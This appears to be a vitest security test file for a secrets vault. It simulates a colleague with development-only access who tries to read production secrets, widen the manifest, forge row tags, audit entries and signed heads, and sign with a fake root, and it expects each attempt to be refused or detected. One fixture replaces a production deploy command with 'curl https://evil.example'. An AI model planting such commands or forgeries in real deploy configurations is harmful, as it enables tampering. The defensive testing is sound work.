/** What a colleague with a key for one environment may try, who can also write the file. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { entryHash, signHead } from '../../src/crypto/audit-chain.ts';
import { digestKey, rowKey } from '../../src/crypto/keys.ts';
import { rowsDigest, rowTag } from '../../src/crypto/row.ts';
import type { Cell } from '../../src/crypto/row.ts';
import { smallTables, TABLES } from '../../src/store/tables.ts';
import type { Head } from '../../src/vault/head.ts';
import { signedManifest } from '../../src/vault/manifest.ts';
import { encodeEntry } from '../../src/vault/audit-entry.ts';
import type { Vault } from '../../src/vault/vault.ts';
import { addSecret, addSlot, makeVault, textOf } from '../helpers/vault.ts';
import type { TestVault } from '../helpers/vault.ts';
import { auditOf, codeOf, copyOf, tampered, useOf } from '../helpers/vandal.ts';

let made: TestVault;
beforeAll(async () => {
  made = await makeVault({
    secrets: { api_key: { development: 'dev', production: 'live' }, other_key: { production: 'other' } },
    withEveryTable: true,
  });
});
afterAll(() => made.remove());

describe('a colleague with a key for some environments', () => {
  let theirs: { secret: Uint8Array; identity: Uint8Array };
  let base: string;
  beforeAll(async () => {
    base = copyOf(made);
    const { secret } = await made.using((vault) => addSlot(vault, 'colleague', ['development']), { file: base });
    theirs = { secret, identity: made.key.identity };
  });

  it('reads and writes what was given, and nothing else', async () => {
    const file = copyOf(made, base);
    const as = { file, key: theirs };
    expect(await made.using((vault) => textOf(vault, 'api_key', 'development'), as)).toBe('dev');
    expect(await codeOf(made.using((vault) => textOf(vault, 'api_key', 'production'), as))).toBe('not_granted');
    expect(await codeOf(made.using((vault) => addSecret(vault, 'mine', { development: 'x' }), as))).toBe('done');
    expect(await codeOf(made.using((vault) => addSecret(vault, 'no', { production: 'x' }), as))).toBe('not_granted');
    expect(await codeOf(made.using((vault) => addSecret(vault, 'no', 'shared value'), as))).toBe('not_granted');
    const remove = (vault: Vault) =>
      vault.change(async (change) => {
        const [row] = await change.find('registration', { environment: 'production' });
        await change.remove('registration', row!);
        change.log({ action: 'x' });
      });
    expect(await codeOf(made.using(remove, as))).toBe('not_granted');
  });

  it('adds a slot for everything: not without the root', async () => {
    const file = copyOf(made, base);
    const as = { file, key: theirs };
    expect(await codeOf(made.using((vault) => addSlot(vault, 'more', null), as))).toBe('not_granted');
    const onlyManifest = (vault: Vault) =>
      vault.change(async (change) => {
        const slots = vault.manifest.slots.map((slot) => ({ ...slot, environments: null, admin: true }));
        await change.putManifest({ ...vault.manifest, slots });
        change.log({ action: 'x' });
      });
    expect(await codeOf(made.using(onlyManifest, as))).toBe('not_granted');
    const widened = tampered({ ...made, file }, (database) => {
      const body = database.prepare('SELECT body FROM manifest').pluck().get() as Buffer;
      const changed = Buffer.from(body.toString().replace('["development"]', () => 'null'));
      database.prepare('UPDATE manifest SET body = ?').run(changed);
    });
    expect(await codeOf(made.using(async () => undefined, { file: widened, key: theirs }))).toBe('vault_damaged');
  });

  /**
   * A changed deploy command of production, with all that the colleague's keys can make: a tag and a digest under a key of theirs, an
   * entry that names the row, a signed head.
   */
  async function forgeCommand(key: 'vault' | 'development', isDigestForged: boolean): Promise<string> {
    const file = copyOf(made, base);
    const forge = async (vault: Vault): Promise<void> => {
      const ring = vault.requireKeys();
      const known = key === 'vault' ? ring.vaultKey : ring.environmentKey(key);
      const id = vault.manifest.vault;
      await vault.store.write(1, async (transaction) => {
        const before = JSON.parse(Buffer.from((await transaction.head())!.body).toString()) as Head;
        const seq = before.seq + 1;
        const [row] = await transaction.find('registration', { environment: 'production' });
        const changed = { ...row!, deploy_command: 'curl https://evil.example', entry: seq };
        const cells = Object.keys(TABLES.registration.columns).map((column) => changed[column as 'path'] as Cell);
        await transaction.put('registration', {
          ...changed,
          tag: rowTag(rowKey(known), id, 'registration', cells, seq),
        });
        const said = { key: null, action: 'x', secret: null, environment: null, route: null, detail: null };
        const rowsPut = { registration: [row!.id] };
        const body = encodeEntry({ at: before.at, actor: 'c', ...said, rows: rowsPut, made: [], gone: [] });
        const hash = entryHash(id, seq, before.hash, body);
        await transaction.appendEntry({ seq, body, hash, signature: null });
        const rows = [];
        for (const table of smallTables('environment')) {
          rows.push(...(await transaction.tags(table, 'production')).map((tag) => ({ table, ...tag })));
        }
        const digest = Buffer.from(rowsDigest(digestKey(known), id, 'production', rows)).toString('hex');
        const environments = isDigestForged ? { ...before.environments, production: digest } : before.environments;
        const head = Buffer.from(JSON.stringify({ ...before, seq, hash, environments }));
        await transaction.putHead({ body: head, signature: signHead(ring.auditSeed, id, head) });
      });
    };
    await made.using(forge, { file, key: theirs });
    return file;
  }

  it.each([
    ['vault', true],
    ['vault', false],
    ['development', true],
    ['development', false],
  ] as const)('changes a command of production, under the %s key, with a forged digest: %s', async (key, isForged) => {
    const file = await forgeCommand(key, isForged);
    expect(await useOf(made, file)).toBe('vault_damaged');
    const find = (vault: Vault) => vault.read((view) => view.find('registration', { environment: 'production' }));
    expect(await codeOf(made.using(find, { file }))).toBe('vault_damaged');
    expect((await auditOf(made, file))?.reason).toContain('row');
  });

  it('signs a wider manifest with a root of their own making', async () => {
    const file = copyOf(made, base);
    const forge = async (vault: Vault): Promise<void> => {
      const slots = vault.manifest.slots.map((slot) => ({ ...slot, environments: null, admin: true }));
      await vault.store.write(1, async (transaction) => {
        await transaction.putManifest(signedManifest({ ...vault.manifest, slots }, new Uint8Array(32).fill(1)));
      });
    };
    await made.using(forge, { file, key: theirs });
    expect(await codeOf(made.using(async () => undefined, { file }))).toBe('vault_damaged');
  });
});

describe('somebody who changes the keys meanwhile', () => {
  it('is followed by a vault that is open', async () => {
    const file = copyOf(made);
    await made.using(
      async (vault) => {
        await made.using((other) => addSlot(other, 'new', null), { file });
        expect(await vault.read(async ({ manifest }) => manifest.slots.map(({ label }) => label))).toContain('new');
        expect(vault.manifest.slots.at(-1)).toMatchObject({ label: 'new' });
      },
      { file },
    );
  });
});
